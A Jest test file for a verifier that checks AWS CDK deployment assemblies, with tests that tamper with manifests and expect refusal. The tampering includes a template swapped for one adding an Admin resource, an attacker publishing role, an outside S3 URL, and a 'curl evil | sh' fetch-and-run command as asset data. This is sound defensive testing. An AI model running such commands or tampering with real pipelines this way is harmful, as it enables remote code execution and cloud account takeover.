import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  checkCandidateStages,
  checkStackNames,
  releaseStages,
  deployedStacks,
} from '../../../core/handoff/deployable-assembly';
import { writeNestedAssembly } from './nested-assembly';

// GIVEN a candidate whose prod assembly is as CDK writes it; each test changes what the hand-off step could change.
let candidate: string;
let assembly: string;
beforeEach(() => {
  candidate = mkdtempSync(join(tmpdir(), 'deployable-'));
  assembly = join(candidate, 'cdk.out', 'assembly-app-prod');
  writeNestedAssembly(assembly, { Resources: {} });
});
afterEach(() => rmSync(candidate, { recursive: true, force: true }));

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- manifests edited in place, as an attacker would
type Editable = Record<string, any>;
const edit = (file: string, change: (json: Editable) => void) => {
  const json = JSON.parse(readFileSync(join(assembly, file), 'utf8')) as Editable;
  change(json);
  writeFileSync(join(assembly, file), JSON.stringify(json));
};
const judged = () => deployedStacks(candidate, 'assembly-app-prod');

test('gives the stack and the template it deploys when the template asset is that file, under its SHA-256', () => {
  expect(judged()).toEqual([
    {
      artifactId: 'AppProdService',
      templateFile: 'cdk.out/assembly-app-prod/AppProdService.template.json',
      stackName: 'app-prod-service',
      account: '333333333333',
      region: 'eu-west-1',
      publishedObjects: new Set([
        expect.stringMatching(/^cdk-hnb659fds-assets-333333333333-eu-west-1\/[0-9a-f]{64}\.json$/),
      ]),
      assetSources: new Map([
        [
          expect.stringMatching(/^cdk-hnb659fds-assets-333333333333-eu-west-1\//),
          join(assembly, 'AppProdService.template.json'),
        ],
      ]),
    },
  ]);
});

test('refuses a stack whose account is not given literally (the CLI would deploy it wherever its role is)', () => {
  edit('manifest.json', (m) => (m.artifacts.AppProdService.environment = 'aws://unknown-account/eu-west-1'));
  expect(judged).toThrow(
    'stack AppProdService deploys to "aws://unknown-account/eu-west-1", not an account and region given literally',
  );
});

test('refuses a template asset whose source is another file than the template Verify judged', () => {
  writeFileSync(join(assembly, 'evil.json'), '{"Resources":{"Admin":{}}}');
  edit('AppProdService.assets.json', (m) => (m.files.template.source.path = 'evil.json'));
  expect(judged).toThrow(
    /stack AppProdService deploys from "s3:\/\/.*", which is not its template AppProdService\.template\.json/,
  );
});

test('refuses a stack that deploys from a URL outside the assembly', () => {
  edit(
    'manifest.json',
    (m) => (m.artifacts.AppProdService.properties.stackTemplateAssetObjectUrl = 'https://evil.s3.amazonaws.com/t.json'),
  );
  expect(judged).toThrow('stack AppProdService deploys from "https://evil.s3.amazonaws.com/t.json"');
});

test('refuses a template changed after synth without its asset', () => {
  writeFileSync(join(assembly, 'AppProdService.template.json'), '{"Resources":{"Admin":{}}}');
  expect(judged).toThrow('which is not its template AppProdService.template.json');
});

test('judges an asset manifest of any name the manifest names, and refuses a command in it', () => {
  writeFileSync(
    join(assembly, 'meta.json'),
    JSON.stringify({ files: { x: { source: { executable: ['sh', '-c', 'curl evil | sh'] } } } }),
  );
  edit(
    'manifest.json',
    (m) => (m.artifacts['X.assets'] = { type: 'cdk:asset-manifest', properties: { file: 'meta.json' } }),
  );
  expect(judged).toThrow(
    "cdk.out/assembly-app-prod/meta.json: file asset x must be a path inside the candidate's cdk.out",
  );
});

test('refuses an asset manifest outside the assembly', () => {
  edit(
    'manifest.json',
    (m) => (m.artifacts['X.assets'] = { type: 'cdk:asset-manifest', properties: { file: '../../x.json' } }),
  );
  expect(judged).toThrow('artifact X.assets names "../../x.json", not a JSON file of the assembly');
});

test('refuses an asset published through another role than the bootstrap file-publishing role', () => {
  edit(
    'AppProdService.assets.json',
    (m) => (m.files.template.destinations.prod.assumeRoleArn = 'arn:aws:iam::111111111111:role/attacker'),
  );
  expect(judged).toThrow(
    'is published as "arn:aws:iam::111111111111:role/attacker", not a CDK bootstrap file-publishing role',
  );
});

test('refuses an artifact type it does not judge', () => {
  edit(
    'manifest.json',
    (m) => (m.artifacts.Nested = { type: 'cdk:cloud-assembly', properties: { directoryName: 'x' } }),
  );
  expect(judged).toThrow('artifact Nested has type "cdk:cloud-assembly", which Verify does not judge');
});

test('refuses a stack property CDK does not write for a stage, such as notification topics', () => {
  edit(
    'manifest.json',
    (m) => (m.artifacts.AppProdService.properties.notificationArns = ['arn:aws:sns:eu-west-1:666666666666:t']),
  );
  expect(judged).toThrow('stack AppProdService sets notificationArns, which Verify does not judge');
});

test('refuses two assets published to one object, where the first published would stand in for the other', () => {
  writeFileSync(join(candidate, 'cdk.out', 'evil.json'), '{"Resources":{"Admin":{}}}');
  edit('AppProdService.assets.json', (m) => {
    m.files.evil = { source: { path: '../evil.json', packaging: 'file' }, destinations: m.files.template.destinations };
  });
  expect(judged).toThrow(
    /two assets are published to s3:\/\/cdk-hnb659fds-assets-333333333333-eu-west-1\/[0-9a-f]{64}\.json/,
  );
});

test('refuses an asset published outside a bootstrap bucket or under a key that is not a hash', () => {
  edit('AppProdService.assets.json', (m) => (m.files.template.destinations.prod.objectKey = 'latest.json'));
  expect(judged).toThrow(
    'file asset template is published to s3://cdk-hnb659fds-assets-333333333333-eu-west-1/latest.json, not a <hash>.json object of a CDK bootstrap bucket',
  );
});

test('checkStackNames refuses a stack that would update another stack of the account', () => {
  edit('manifest.json', (m) => (m.artifacts.AppProdService.properties.stackName = 'CDKToolkit'));
  expect(() => checkStackNames(candidate, { prod: 'assembly-app-prod' }, 'app')).toThrow(
    `cdk.out/assembly-app-prod: stack AppProdService updates "CDKToolkit", not a stack of app's prod it may update ` +
      '(app-prod-…, but app-prod-access, which the release stack deploys)',
  );
});

test("checkStackNames refuses a candidate stack that would replace the environment's access stack", () => {
  edit('manifest.json', (m) => (m.artifacts.AppProdService.properties.stackName = 'app-prod-access'));
  expect(() => checkStackNames(candidate, { prod: 'assembly-app-prod' }, 'app')).toThrow('updates "app-prod-access"');
});

test("checkCandidateStages holds the manifest to the release pipeline's own environments and assemblies", () => {
  const stages = releaseStages('prod=assembly-app-prod');
  expect(() => checkCandidateStages({ prod: 'assembly-app-prod' }, stages)).not.toThrow();
  // The attacker's relabel: prod's assembly as 'billing', whose stack names the prefix check would then admit.
  expect(() => checkCandidateStages({ billing: 'assembly-app-prod' }, stages)).toThrow(
    "the candidate's manifest names billing=assembly-app-prod, but this release pipeline deploys prod=assembly-app-prod",
  );
  expect(() => releaseStages('prod')).toThrow("--stages must be ENV=assembly-…[,ENV=assembly-…], got 'prod'");
});

test("checkStackNames admits the environment's own stacks", () => {
  expect(() => checkStackNames(candidate, { prod: 'assembly-app-prod' }, 'app')).not.toThrow();
});
